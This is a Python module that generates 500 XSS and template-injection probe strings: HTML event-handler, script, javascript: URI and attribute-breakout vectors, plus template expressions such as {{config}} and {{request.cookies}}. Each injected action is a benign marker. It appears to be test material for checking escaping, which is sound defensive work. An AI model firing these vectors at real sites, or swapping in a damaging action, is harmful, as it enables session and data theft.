"""
Five hundred texts that do something as soon as they are taken for markup or for a template instead of for text.

What they try is to open a dialog, to write to the console, or to leave a mark on the document; each of these is noticed.
"""

from __future__ import annotations

from base64 import b64encode

MARK = "hit"
"""What a payload that runs leaves behind."""

_DEEDS = (
    f"alert('{MARK}')",
    f"console.log('{MARK}')",
    f"document.documentElement.dataset.{MARK}=1",
    f"eval(atob('{b64encode(f'console.log(`{MARK}`)'.encode()).decode()}'))",
    f"top['al'+'ert']('{MARK}')",
)
_VECTORS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src/onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}></textarea>",
    "<select autofocus onfocus={}></select>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    '<iframe src="javascript:parent.{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus onfocus={}>x</a>',
    '<form><button formaction="javascript:{}" autofocus onfocus={}>x</button></form>',
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<template><script>{}</script></template><img src=x onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<div style="animation:x" onanimationstart={}>',
)
_OUT_OF = ("{}", '">{}', "</textarea>{}")
_TEMPLATES = (
    "{{7*7}}", "{{7*'7'}}", "{%print(7*7)%}", "{% for x in () %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}",
    "{{self}}", "{{''.__class__.__mro__}}", "{0.__class__}", "%s%s%n", "{{parts.sessions}}", "{#", "{{ t('x') }}",
    "[[7*7]]",
    "*{7*7}",
    "@(7*7)", "{php}echo 7*7{/php}", "{{request.cookies}}",
)  # fmt: skip
_ATTRIBUTES = tuple(f"{quote} autofocus onfocus={{}} x={quote}" for quote in ('"', "'", "`"))
_VALUES = ("javascript:{}//", "data:text/html,<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;")


def payloads() -> tuple[str, ...]:
    """Return the five hundred, no two alike."""
    vectors = [out.format(vector) for out in _OUT_OF for vector in _VECTORS] + [*_ATTRIBUTES, *_VALUES]
    found = [vector.replace("{}", deed) for deed in _DEEDS for vector in vectors]
    return tuple(dict.fromkeys([*_TEMPLATES, *found]))[:500]
